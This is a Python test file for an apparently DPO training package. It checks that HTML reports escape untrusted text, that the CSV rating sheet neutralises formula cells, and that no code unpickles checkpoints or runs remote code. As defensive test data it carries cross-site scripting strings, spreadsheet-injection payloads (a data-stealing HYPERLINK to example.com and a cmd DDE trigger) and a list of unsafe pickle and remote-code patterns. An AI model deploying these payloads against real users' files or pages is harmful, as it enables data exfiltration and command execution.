"""Untrusted text stays text: HTML in samples, metrics, evaluations, config and paths is
escaped in report.html; formula-like cells of the rating sheet stay text in a spreadsheet;
and nothing in the package unpickles or runs a checkpoint's remote code."""

import ast
import csv
import html
import html.parser
import json
import os

import pytest

from dpo_jax import rating, report

PACKAGE = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "dpo_jax")
SCRIPT = "<script>alert(1)</script>"
CELL_BREAK = "</td><b>x"
ESCAPED = html.escape(SCRIPT)  # &lt;script&gt;alert(1)&lt;/script&gt;


# ------------------------------------------------------------------------- report.html

# Every tag render_html writes itself; an injected one is anything else.
REPORT_TAGS = set(
    "html head meta title style body h1 h2 h3 p div figure img figcaption table thead tbody tr "
    "th td details summary pre".split()
)


class _Page(html.parser.HTMLParser):
    """The tags and the text a browser would see."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def assert_only_own_markup(page_html: str) -> str:
    """Fails on any tag or attribute the report does not write itself; returns the text."""
    page = _Page(page_html)
    for tag, attrs in page.tags:
        assert tag in REPORT_TAGS, f"injected <{tag}>"
        assert not any(name.startswith("on") for name in attrs), f"<{tag} {attrs}>"
        if tag == "img":
            assert attrs["src"].startswith("data:image/png;base64,"), attrs["src"][:80]
    return "".join(page.text)


def write_jsonl(path, rows):
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))


@pytest.fixture
def hostile_workdir(tmp_path):
    """A run directory whose every text field carries markup; its name too."""
    workdir = tmp_path / "<img src=x onerror=alert(2)>"
    workdir.mkdir()
    write_jsonl(
        workdir / "metrics.jsonl",
        [
            {"step": 0, "loss": 0.69, "rewards/accuracies": 0.5},
            {"step": 1, "loss": 0.6, "rewards/accuracies": 0.75},
            {"step": 1, "eval/loss": 0.65, f"eval/samples/{SCRIPT}_rate": 0.5},
        ],
    )
    write_jsonl(
        workdir / "samples.jsonl",
        [
            {
                "step": 1,
                "prompt": SCRIPT,
                "reference": CELL_BREAK,
                "policy": f"Sure! {SCRIPT}",
                "reference_preferred": CELL_BREAK,
                "policy_preferred": True,
            },
            {"step": 1, "prompt": CELL_BREAK, "reference": SCRIPT, "policy": CELL_BREAK},
        ],
    )
    evaluation = {"step": SCRIPT, "sets": {SCRIPT: {"pairs": CELL_BREAK, "metrics": {}}}}
    evaluation["sets"][SCRIPT]["metrics"]["loss"] = CELL_BREAK
    (workdir / "eval_1.json").write_text(json.dumps(evaluation))
    (workdir / "config.json").write_text(json.dumps({"data": {"train_file": SCRIPT}}))
    return workdir


def test_report_escapes_html_from_every_run_file(hostile_workdir):
    page = open(report.write_report(str(hostile_workdir)), encoding="utf-8").read()
    assert "<script" not in page.lower() and "<b>" not in page and "<img src=x" not in page
    assert ESCAPED in page and html.escape(CELL_BREAK) in page
    text = assert_only_own_markup(page)
    # What a reader sees is the text as written: prompts, replies, set names, the folder.
    for shown in (SCRIPT, f"Sure! {SCRIPT}", CELL_BREAK, "<img src=x onerror=alert(2)>"):
        assert shown in text
    assert f"step {SCRIPT}" in text  # eval_<step>.json's step
    assert f'"train_file": "{SCRIPT}"' in text  # config.json, shown verbatim


def test_report_escapes_a_sample_step_that_is_text(tmp_path):
    write_jsonl(tmp_path / "metrics.jsonl", [{"step": 0, "loss": 0.69}])
    write_jsonl(tmp_path / "samples.jsonl", [{"step": SCRIPT, "prompt": "p", "policy": "r"}])
    page = open(report.write_report(str(tmp_path)), encoding="utf-8").read()
    assert "<script" not in page.lower() and f"Step {ESCAPED}: 1 of 1 prompts" in page
    assert_only_own_markup(page)


# ----------------------------------------------------------------------- rating sheet

FORMULAS = [
    '=HYPERLINK("http://example.com/steal?d="&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def sheet_cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_rating_sheet_is_csv_whose_formula_like_cells_stay_text(tmp_path):
    samples = tmp_path / "samples.jsonl"
    texts = [*FORMULAS, SCRIPT, CELL_BREAK, "'=already quoted", "- a bullet list"]
    write_jsonl(samples, [{"step": 3, "prompt": t, "reference": t, "policy": t} for t in texts])
    sheet = str(tmp_path / "sheet.csv")
    rating.export_sheet(rating.rows_from_samples(str(samples)), sheet)
    with open(sheet, encoding="utf-8") as f:
        assert f.readline().startswith("id,prompt,answer_A,answer_B,")  # CSV, not HTML
    rows = sheet_cells(sheet)
    assert len(rows) == len(texts)
    for row, original in zip(rows, texts, strict=True):
        for column in ("prompt", "answer_A", "answer_B"):
            cell = row[column]
            assert not cell.startswith(rating.FORMULA_START), (column, cell)
            assert rating.unguard_cell(cell) == rating.unguard_cell(original)
            # A formula gets the spreadsheets' "this is text" quote; other text is untouched.
            expected = "'" + original if original.startswith(rating.FORMULA_START) else original
            assert cell == expected
    assert rows[len(FORMULAS)]["prompt"] == SCRIPT  # plain text in a CSV: nothing to escape


@pytest.mark.parametrize("spreadsheet_kept_the_quote", [True, False])
def test_guarded_sheet_scores_whether_or_not_the_quote_survives(
    tmp_path, spreadsheet_kept_the_quote
):
    sheet = str(tmp_path / "sheet.csv")
    rating.export_sheet([(f, f"{f} reference", f"{f} policy") for f in FORMULAS], sheet, seed=1)
    rows = sheet_cells(sheet)
    for row in rows:
        if not spreadsheet_kept_the_quote:  # some save the text without its quote mark
            for column in ("prompt", "answer_A", "answer_B"):
                row[column] = rating.unguard_cell(row[column])
        row["preferred"] = "A" if "policy" in row["answer_A"] else "B"
    with open(sheet, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=rating.COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    result = rating.score_sheet(sheet)
    assert (result["rows"], result["policy_wins"]) == (len(FORMULAS), len(FORMULAS))


def test_guard_cell_round_trips_and_leaves_plain_text_alone():
    for text in ["plain", "", "'", "'quoted", "a=b", " =1", *FORMULAS]:
        assert rating.unguard_cell(rating.guard_cell(text)) == text
    # Text that already reads as quoted is left alone; both fingerprints drop the quote.
    assert rating.guard_cell("'=x") == "'=x" and rating.unguard_cell("'=x") == "=x"
    assert rating.guard_cell("Sure! 2+2=4") == "Sure! 2+2=4"
    assert rating.guard_cell("=1+1") == "'=1+1"


# -------------------------------------------------------------- nothing unpickles

PICKLE_MODULES = {"pickle", "cPickle", "_pickle", "cloudpickle", "dill", "shelve", "joblib"}
TORCH_LOADS = {"torch.load", "torch.serialization.load"}
NUMPY_LOADS = {"numpy.load", "jax.numpy.load"}


def _aliases(tree: ast.AST) -> dict[str, str]:
    """Local name → the module or function it stands for (`np` → numpy, `load` → numpy.load)."""
    names = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.asname:
                    names[alias.asname] = alias.name
                else:
                    names.setdefault(alias.name.split(".")[0], alias.name.split(".")[0])
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            for alias in node.names:
                names[alias.asname or alias.name] = f"{node.module}.{alias.name}"
    return names


def _dotted(node: ast.AST, aliases: dict[str, str]) -> str:
    parts = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if not isinstance(node, ast.Name):
        return ""
    return ".".join([aliases.get(node.id, node.id), *reversed(parts)])


def _is_false(node: ast.AST | None) -> bool:
    return isinstance(node, ast.Constant) and node.value is False


def unsafe_uses(source: str) -> list[tuple[int, str]]:
    """(line, rule) of each use that can unpickle or run downloaded code. Code only: comments
    and docstrings that explain why pickles are refused are fine."""
    tree = ast.parse(source)
    aliases = _aliases(tree)
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            modules += [node.module] if isinstance(node, ast.ImportFrom) and node.module else []
            if any(m.split(".")[0] in PICKLE_MODULES for m in modules):
                found.append((node.lineno, f"imports {modules}"))
        elif isinstance(node, ast.Name | ast.Attribute):
            name = node.id if isinstance(node, ast.Name) else node.attr
            if "pickle" in name.lower():  # pickle.loads, pd.read_pickle, ...
                found.append((node.lineno, f"uses {name}"))
        elif isinstance(node, ast.Constant) and node.value in PICKLE_MODULES:
            found.append((node.lineno, f"names module {node.value!r}"))  # importlib
        elif isinstance(node, ast.keyword) and node.arg in ("allow_pickle", "trust_remote_code"):
            if not _is_false(node.value):
                found.append((node.value.lineno, f"{node.arg}= not False"))
        if isinstance(node, ast.Call):
            function = _dotted(node.func, aliases)
            keywords = {k.arg: k.value for k in node.keywords}
            if function in TORCH_LOADS:
                found.append((node.lineno, function))
            if function in NUMPY_LOADS and not _is_false(keywords.get("allow_pickle")):
                found.append((node.lineno, "numpy.load without allow_pickle=False"))
    return sorted(found)


@pytest.mark.parametrize(
    "source",
    [
        "import pickle",
        "import pickle as p",
        "from pickle import loads",
        "import cloudpickle",
        "from joblib import load",
        "import importlib\nimportlib.import_module('pickle')",
        "import pandas as pd\npd.read_pickle(path)",
        "import numpy as np\nnp.load(path)",
        "import numpy as onp\nonp.load(path, mmap_mode='r')",
        "from numpy import load\nload(path)",
        "import jax.numpy as jnp\njnp.load(path)",
        "import numpy as np\nnp.load(path, allow_pickle=True)",
        "import numpy as np\nnp.load(path, allow_pickle=flag)",
        "import torch\ntorch.load(path)",
        "import torch as t\nt.load(path, weights_only=True)",
        "from torch import load\nload(path)",
        "AutoModel.from_pretrained(name, trust_remote_code=True)",
        "AutoTokenizer.from_pretrained(name, trust_remote_code=remote)",
    ],
)
def test_scanner_catches_each_unsafe_use(source):
    assert unsafe_uses(source), source


@pytest.mark.parametrize(
    "source",
    [
        '"""PyTorch pickles (pytorch_model.bin) are never unpickled here."""',
        "# import pickle\nx = 1",
        "raise ValueError('holds only pickles; torch.load is never called')",
        "import numpy as np\nnp.load(path, allow_pickle=False)",
        "import json\njson.load(f)",
        "from safetensors.numpy import load_file\nload_file(path)",
        "AutoModel.from_pretrained(name, trust_remote_code=False)",
        "checkpointer.load(path)",
    ],
)
def test_scanner_passes_safe_code(source):
    assert unsafe_uses(source) == []


def test_nothing_in_the_package_unpickles():
    found = []
    for folder, _, files in os.walk(PACKAGE):
        for file in sorted(f for f in files if f.endswith(".py")):
            path = os.path.join(folder, file)
            relative = os.path.relpath(path, PACKAGE)
            with open(path, encoding="utf-8") as f:
                uses = unsafe_uses(f.read())
            found += [f"dpo_jax/{relative}:{line}: {rule}" for line, rule in uses]
    assert not found, "\n".join(found)
